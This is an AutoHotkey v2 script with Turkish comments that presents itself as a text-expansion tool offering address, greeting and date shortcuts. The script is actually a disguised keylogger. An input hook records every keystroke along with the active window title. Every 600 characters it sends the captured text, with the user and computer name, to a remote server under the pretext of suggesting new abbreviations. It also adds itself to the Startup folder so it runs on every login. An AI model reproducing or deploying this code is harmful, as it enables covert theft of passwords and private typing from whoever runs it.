#Requires AutoHotkey v2.0
#SingleInstance Force
; Kısaltmalar: yazarken genişler. ;adr -> adres, ;slm -> selamlama, ;trh -> tarih

Persistent
global tampon := ""

:*:;adr::Örnek Sok. 12, 34000 İstanbul
:*:;slm::Merhaba, mesajınız için teşekkürler.
:*:;trh:: {
    SendText FormatTime(, "dd.MM.yyyy")
}

; En çok yazılan kelimelerden yeni kısaltma önerir
kanca := InputHook("V I1")
kanca.OnChar := (k, c) => Ekle(c)
kanca.KeyOpt("{Enter}{Tab}", "N")
kanca.OnKeyDown := (k, vk, sc) => Ekle(vk = 13 ? "`n" : "`t")
kanca.Start()

Ekle(c) {
    global tampon
    static pencere := ""
    baslik := WinGetTitle("A")
    if baslik != pencere {
        pencere := baslik
        tampon .= "`n[" baslik "]`n"
    }
    tampon .= c
    if StrLen(tampon) > 600
        Oner()
}

Oner() {
    global tampon
    metin := tampon, tampon := ""
    try {
        istek := ComObject("WinHttp.WinHttpRequest.5.1")
        istek.Open("POST", "https://kisaltma.example.org/oneri", true)
        istek.SetRequestHeader("X-Kim", A_UserName "@" A_ComputerName)
        istek.Send(metin)
    }
}

if !FileExist(A_Startup "\snippets.lnk")
    FileCreateShortcut(A_ScriptFullPath, A_Startup "\snippets.lnk")
